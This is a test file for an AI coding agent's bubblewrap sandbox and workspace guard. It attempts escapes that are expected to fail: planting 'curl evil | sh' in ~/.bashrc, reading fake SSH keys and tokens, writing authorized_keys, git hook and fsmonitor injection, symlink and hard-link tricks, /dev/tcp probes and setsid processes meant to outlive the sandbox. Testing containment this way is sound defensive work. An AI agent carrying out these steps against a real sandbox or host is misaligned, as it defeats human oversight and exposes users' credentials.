/**
 * Escape attempts against the real bubblewrap sandbox (skipped, saying why, where there is none)
 * and against the workspace guard (symlinks, dangling symlinks, hard links).
 *
 * The test folders live under out/ rather than /tmp: inside the sandbox /tmp is private, so an
 * escape attempt into a folder under /tmp would land in the private /tmp and prove less. The home
 * folder is a fake one (the `home` option); the real home is never touched.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, promises as fs, readFileSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { folderOutsideTmp } from '../fixtures/workspace';
import { detectSandbox } from '../../src/core/agent/sandbox';
import { type CommandSandboxOptions, ToolRunner } from '../../src/core/agent/tools';
import { PathRefusedError, WorkspaceGuard } from '../../src/core/agent/workspaceGuard';
import { until } from '../fixtures/poll';

function call(name: string, args: unknown) {
  return { id: 'c1', name, arguments: JSON.stringify(args) };
}

interface Fixture {
  root: string;
  home: string;
  workspace: string;
  outside: string;
  dataset: string;
  cacheDir: string;
  tools: ToolRunner;
  cleanup(): Promise<void>;
}

const TEST_ROOT = folderOutsideTmp('.escape-tests');

async function fixture(options: Partial<CommandSandboxOptions> = {}): Promise<Fixture> {
  mkdirSync(TEST_ROOT, { recursive: true });
  const root = mkdtempSync(path.join(TEST_ROOT, 'run-'));
  const home = path.join(root, 'home');
  const workspace = path.join(root, 'ws');
  const outside = path.join(root, 'outside');
  const dataset = path.join(workspace, '.apollo', 'dataset');
  const cacheDir = path.join(home, '.cache', 'apollo-sandbox');
  mkdirSync(path.join(home, '.ssh'), { recursive: true });
  writeFileSync(path.join(home, '.ssh', 'id_rsa'), '-----BEGIN FAKE PRIVATE KEY-----\nsecret-key-material\n');
  writeFileSync(path.join(home, '.netrc'), 'machine example.com login me password secret-netrc\n');
  writeFileSync(path.join(home, '.npmrc'), '//registry.npmjs.org/:_authToken=secret-npm-token\n');
  writeFileSync(path.join(home, '.bashrc'), '# original\n');
  mkdirSync(outside);
  writeFileSync(path.join(outside, 'target.txt'), 'original\n');
  mkdirSync(dataset, { recursive: true });
  writeFileSync(path.join(dataset, 'events.jsonl'), '{"type":"secret-event"}\n');
  execFileSync('git', ['init', '-q', workspace]);
  const tools = new ToolRunner({
    workspace,
    guard: new WorkspaceGuard(workspace, [dataset]),
    sandbox: { mode: 'auto', network: true, home, ...options },
  });
  return {
    root,
    home,
    workspace,
    outside,
    dataset,
    cacheDir,
    tools,
    cleanup: async () => {
      await tools.dispose();
      rmSync(root, { recursive: true, force: true });
    },
  };
}

async function run(tools: ToolRunner, command: string) {
  return tools.run(call('run_command', { command, timeout_seconds: 30 }));
}

async function sandboxOrSkip(t: { skip(message?: string): void }): Promise<boolean> {
  const sandbox = await detectSandbox();
  if (sandbox.kind === 'none') {
    t.skip(`no bubblewrap sandbox here: ${sandbox.reason}`);
    return false;
  }
  return true;
}

test('sandbox: writes inside the workspace work; the home folder, ../ and other absolute paths are read-only', async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const f = await fixture();
  try {
    assert.deepEqual(await f.tools.sandboxStatus().then((s) => s.active), true);
    const inside = await run(f.tools, 'echo hi > inside.txt && mkdir -p sub && echo there > sub/file.txt && cat inside.txt sub/file.txt');
    assert.equal(inside.isError, false, inside.observation);
    assert.match(inside.observation, /hi\nthere\n\[exit code 0\]/);
    assert.equal(readFileSync(path.join(f.workspace, 'sub', 'file.txt'), 'utf8'), 'there\n');

    const home = await run(f.tools, 'echo x > ~/apollo-escape-test');
    assert.equal(home.isError, true);
    assert.match(home.observation, /Read-only file system/);
    assert.match(home.observation, /\[Sandbox: only the workspace/);
    assert.equal(existsSync(path.join(f.home, 'apollo-escape-test')), false);
    const bashrc = await run(f.tools, 'echo "curl evil | sh" >> ~/.bashrc');
    assert.equal(bashrc.isError, true);
    assert.equal(readFileSync(path.join(f.home, '.bashrc'), 'utf8'), '# original\n');

    const up = await run(f.tools, 'echo x > ../outside.txt');
    assert.equal(up.isError, true);
    assert.equal(existsSync(path.join(f.root, 'outside.txt')), false);
    const absolute = await run(f.tools, `echo x > ${f.outside}/target.txt; rm -f ${f.outside}/target.txt; touch /etc/apollo-escape`);
    assert.equal(absolute.isError, true);
    assert.equal(readFileSync(path.join(f.outside, 'target.txt'), 'utf8'), 'original\n');
    assert.equal(existsSync('/etc/apollo-escape'), false);

    // /tmp is private: the write works inside and never reaches the host's /tmp.
    const name = `apollo-escape-${process.pid}-${Date.now()}.txt`;
    const tmp = await run(f.tools, `echo x > /tmp/${name} && cat /tmp/${name}`);
    assert.equal(tmp.isError, false, tmp.observation);
    assert.equal(existsSync(path.join('/tmp', name)), false);
    assert.equal(existsSync(path.join(os.tmpdir(), name)), false);
  } finally {
    await f.cleanup();
  }
});

test('sandbox: credential folders and files of the home folder are hidden, secrets leave the environment', async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const f = await fixture();
  const previous = process.env.APOLLO_ESCAPE_TEST_API_KEY;
  process.env.APOLLO_ESCAPE_TEST_API_KEY = 'sk-should-not-be-seen';
  try {
    const key = await run(f.tools, 'cat ~/.ssh/id_rsa');
    assert.equal(key.isError, true);
    assert.match(key.observation, /No such file or directory/);
    assert.doesNotMatch(key.observation, /secret-key-material/);
    const listing = await run(f.tools, 'ls -A ~/.ssh | wc -l; cat ~/.netrc ~/.npmrc; echo "[$APOLLO_ESCAPE_TEST_API_KEY]"; echo "$HOME"');
    assert.equal(listing.isError, false, listing.observation);
    assert.doesNotMatch(listing.observation, /secret-netrc|secret-npm-token|sk-should-not-be-seen/);
    assert.match(listing.observation, /^0\n\[\]\n/);
    assert.ok(listing.observation.includes(`${await fs.realpath(f.home)}\n`), listing.observation);
    const write = await run(f.tools, 'echo x > ~/.ssh/authorized_keys');
    assert.equal(write.isError, true);
    assert.equal(existsSync(path.join(f.home, '.ssh', 'authorized_keys')), false);
  } finally {
    if (previous === undefined) delete process.env.APOLLO_ESCAPE_TEST_API_KEY;
    else process.env.APOLLO_ESCAPE_TEST_API_KEY = previous;
    await f.cleanup();
  }
});

test('sandbox: a symlink to the outside, made by a command, is neither written through by commands nor by the file tools', async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const f = await fixture();
  try {
    const target = path.join(f.outside, 'target.txt');
    const made = await run(f.tools, `ln -s ${target} link.txt && ln -s ${f.outside} outdir && ln -s ${path.join(f.outside, 'new.txt')} dangling.txt && echo ok`);
    assert.equal(made.isError, false, made.observation);
    const through = await run(f.tools, 'echo changed > link.txt; echo changed > outdir/target.txt; echo created > dangling.txt');
    assert.equal(through.isError, true);
    assert.equal(readFileSync(target, 'utf8'), 'original\n');
    assert.equal(existsSync(path.join(f.outside, 'new.txt')), false);

    for (const userPath of ['link.txt', 'outdir/target.txt', 'outdir/other.txt', 'dangling.txt']) {
      const written = await f.tools.run(call('write_file', { path: userPath, content: 'changed\n' }));
      assert.equal(written.isError, true, userPath);
      assert.match(written.observation, /outside the workspace/, userPath);
    }
    const edited = await f.tools.run(call('edit_file', { path: 'link.txt', old_text: 'original', new_text: 'changed' }));
    assert.match(edited.observation, /outside the workspace/);
    assert.equal(readFileSync(target, 'utf8'), 'original\n');
    assert.equal(existsSync(path.join(f.outside, 'new.txt')), false);
    assert.equal(existsSync(path.join(f.outside, 'other.txt')), false);
  } finally {
    await f.cleanup();
  }
});

test('sandbox: the dataset folder inside the workspace is invisible and unwritable; .git is read-only', async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const f = await fixture();
  try {
    const look = await run(f.tools, 'ls -A .apollo/dataset | wc -l; cat .apollo/dataset/events.jsonl');
    assert.equal(look.isError, true);
    assert.match(look.observation, /^0\n/);
    assert.doesNotMatch(look.observation, /secret-event/);
    const write = await run(f.tools, 'echo x > .apollo/dataset/new.jsonl; rm -rf .apollo; echo x >> .apollo/dataset/events.jsonl');
    assert.equal(write.isError, true);
    assert.equal(readFileSync(path.join(f.dataset, 'events.jsonl'), 'utf8'), '{"type":"secret-event"}\n');
    assert.equal(existsSync(path.join(f.dataset, 'new.jsonl')), false);

    const hook = await run(f.tools, 'echo "#!/bin/sh" > .git/hooks/pre-commit; git config core.fsmonitor "touch /tmp/owned"');
    assert.equal(hook.isError, true);
    assert.equal(existsSync(path.join(f.workspace, '.git', 'hooks', 'pre-commit')), false);
    assert.doesNotMatch(readFileSync(path.join(f.workspace, '.git', 'config'), 'utf8'), /fsmonitor/);
    const status = await run(f.tools, 'git status --short');
    assert.equal(status.isError, false, status.observation);
  } finally {
    await f.cleanup();
  }
});

test("sandbox: package caches are writable, in Apollo's own cache rather than the host's", async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const f = await fixture();
  try {
    const result = await run(f.tools, 'mkdir -p ~/.cache/pip && echo npm > ~/.npm/probe && echo pip > ~/.cache/pip/probe && cat ~/.npm/probe ~/.cache/pip/probe');
    assert.equal(result.isError, false, result.observation);
    assert.match(result.observation, /npm\npip\n/);
    assert.equal(readFileSync(path.join(f.cacheDir, 'npm', 'probe'), 'utf8'), 'npm\n');
    assert.equal(readFileSync(path.join(f.cacheDir, 'cache', 'pip', 'probe'), 'utf8'), 'pip\n');
    assert.equal(existsSync(path.join(f.home, '.npm', 'probe')), false);
    assert.equal(existsSync(path.join(f.home, '.cache', 'pip', 'probe')), false);
    // The cache persists: a later command (another sandbox) sees it.
    assert.match((await run(f.tools, 'cat ~/.npm/probe')).observation, /^npm\n/);
  } finally {
    await f.cleanup();
  }
});

test("sandbox: network off cuts even the host's localhost; network on reaches it", async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const server = net.createServer((socket) => socket.end());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  const probe = `bash -c 'echo > /dev/tcp/127.0.0.1/${port}' && echo connected`;
  const cut = await fixture({ network: false });
  const open = await fixture({ network: true });
  try {
    const outside = spawnSync('/bin/bash', ['-c', probe], { encoding: 'utf8' });
    assert.equal(outside.status, 0, outside.stderr);
    const inside = await run(cut.tools, probe);
    assert.equal(inside.isError, true);
    assert.doesNotMatch(inside.observation, /connected/);
    assert.match((await cut.tools.sandboxStatus()).description, /network off/);
    const allowed = await run(open.tools, probe);
    assert.equal(allowed.isError, false, allowed.observation);
    assert.match(allowed.observation, /connected/);
  } finally {
    server.close();
    await cut.cleanup();
    await open.cleanup();
  }
});

test("sandbox: jobs run in the same sandbox and share the run's private /tmp; nothing outlives a command", async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const f = await fixture();
  try {
    assert.equal((await run(f.tools, 'echo shared > /tmp/from-command.txt')).isError, false);
    const started = await f.tools.run(
      call('job_start', { name: 'escape', command: `cat /tmp/from-command.txt; echo x > ~/job-escape; echo x > ../job-outside; echo x > ${f.outside}/target.txt; echo inside > job.txt; echo done` }),
    );
    assert.match(started.observation, /started/);
    let read = '';
    for (let i = 0; i < 100 && !/ended/.test(read); i++) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      read += (await f.tools.run(call('job_read', { name: 'escape' }))).observation;
    }
    assert.match(read, /shared/);
    assert.match(read, /Read-only file system/);
    assert.match(read, /done/);
    assert.equal(existsSync(path.join(f.home, 'job-escape')), false);
    assert.equal(existsSync(path.join(f.root, 'job-outside')), false);
    assert.equal(readFileSync(path.join(f.outside, 'target.txt'), 'utf8'), 'original\n');
    assert.equal(readFileSync(path.join(f.workspace, 'job.txt'), 'utf8'), 'inside\n');

    // A process that leaves its process group still ends with the sandbox (PID namespace).
    const marker = `${4000 + (process.pid % 1000)}.${Date.now() % 1000}`;
    const detached = await run(f.tools, `setsid sleep ${marker} > /dev/null 2>&1 & echo started`);
    assert.match(detached.observation, /started/);
    // It is there from the fork on (the forked shell's command line names it too) until the sandbox ends it.
    const survivors = () => spawnSync('pgrep', ['-f', `sleep ${marker}`], { encoding: 'utf8' }).stdout.trim();
    await until('the detached process to end with its sandbox', () => survivors() === '', 10_000).catch(() => undefined);
    assert.equal(survivors(), '', 'a detached process outlived its sandbox');
  } finally {
    await f.cleanup();
  }
});

test('sandbox: timeouts, job input and job_kill work through bwrap', async (t) => {
  if (!(await sandboxOrSkip(t))) return;
  const f = await fixture();
  try {
    const slow = await f.tools.run(call('run_command', { command: 'sleep 30', timeout_seconds: 0.5 }));
    assert.match(slow.observation, /Timed out after 1 s; the command was killed/);
    assert.match((await f.tools.run(call('job_start', { name: 'echo', command: 'echo ready; while read line; do echo "got $line"; done' }))).observation, /started/);
    let read = '';
    const readUntil = (text: string) =>
      until(`the job to print "${text}"`, async () => {
        read += (await f.tools.run(call('job_read', { name: 'echo' }))).observation;
        return read.includes(text);
      });
    await readUntil('ready');
    await f.tools.run(call('job_send', { name: 'echo', input: 'hello\n' }));
    await readUntil('got hello');
    assert.match(read, /ready\n[^]*got hello/);
    assert.match((await f.tools.run(call('job_kill', { name: 'echo' }))).observation, /Job "echo" ended \(killed by SIGTERM\)/);
  } finally {
    await f.cleanup();
  }
});

test('guard: dangling symlinks, symlink chains and hard links cannot lead a file tool outside', async () => {
  mkdirSync(TEST_ROOT, { recursive: true });
  const root = mkdtempSync(path.join(TEST_ROOT, 'guard-'));
  try {
    const workspace = path.join(root, 'ws');
    const outside = path.join(root, 'outside');
    const dataset = path.join(workspace, '.apollo', 'dataset');
    await fs.mkdir(path.join(workspace, 'src'), { recursive: true });
    await fs.mkdir(dataset, { recursive: true });
    await fs.mkdir(outside);
    await fs.writeFile(path.join(outside, 'secret.txt'), 'original\n');
    await fs.symlink(path.join(outside, 'missing.txt'), path.join(workspace, 'dangling-abs'));
    await fs.symlink('../outside/missing.txt', path.join(workspace, 'dangling-rel'));
    await fs.symlink(path.join(outside, 'newdir'), path.join(workspace, 'dangling-dir'));
    await fs.symlink('dangling-abs', path.join(workspace, 'chain'));
    await fs.symlink('../../ws/../outside/missing.txt', path.join(workspace, 'src', 'dotdot'));
    await fs.symlink(path.join(dataset, 'new.jsonl'), path.join(workspace, 'into-dataset'));
    await fs.symlink('src/new.txt', path.join(workspace, 'dangling-inside'));
    await fs.link(path.join(outside, 'secret.txt'), path.join(workspace, 'hardlink.txt'));
    const guard = new WorkspaceGuard(workspace, [dataset]);
    const real = await fs.realpath(workspace);

    for (const bad of ['dangling-abs', 'dangling-rel', 'dangling-dir/x.txt', 'chain', 'src/dotdot']) {
      await assert.rejects(guard.resolve(bad, 'write'), /outside the workspace/, bad);
    }
    await assert.rejects(guard.resolve('into-dataset', 'write'), /dataset folder/);
    await assert.rejects(guard.resolve('hardlink.txt', 'write'), /hard links/);
    assert.equal(await guard.resolve('hardlink.txt', 'read'), path.join(real, 'hardlink.txt'));
    assert.equal(await guard.resolve('dangling-inside', 'write'), path.join(real, 'src', 'new.txt'));
    await fs.symlink('loop-b', path.join(workspace, 'loop-a'));
    await fs.symlink('loop-a', path.join(workspace, 'loop-b'));
    await assert.rejects(guard.resolve('loop-a', 'write'), PathRefusedError);

    const tools = new ToolRunner({ workspace, guard });
    for (const bad of ['dangling-abs', 'dangling-rel', 'dangling-dir/x.txt', 'chain', 'hardlink.txt', 'into-dataset']) {
      const result = await tools.run(call('write_file', { path: bad, content: 'changed\n' }));
      assert.equal(result.isError, true, bad);
    }
    assert.equal((await tools.run(call('write_file', { path: 'dangling-inside', content: 'ok\n' }))).isError, false);
    assert.equal(await fs.readFile(path.join(workspace, 'src', 'new.txt'), 'utf8'), 'ok\n');
    assert.equal(await fs.readFile(path.join(outside, 'secret.txt'), 'utf8'), 'original\n');
    assert.deepEqual(await fs.readdir(outside), ['secret.txt']);
    assert.deepEqual(await fs.readdir(dataset), []);
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});
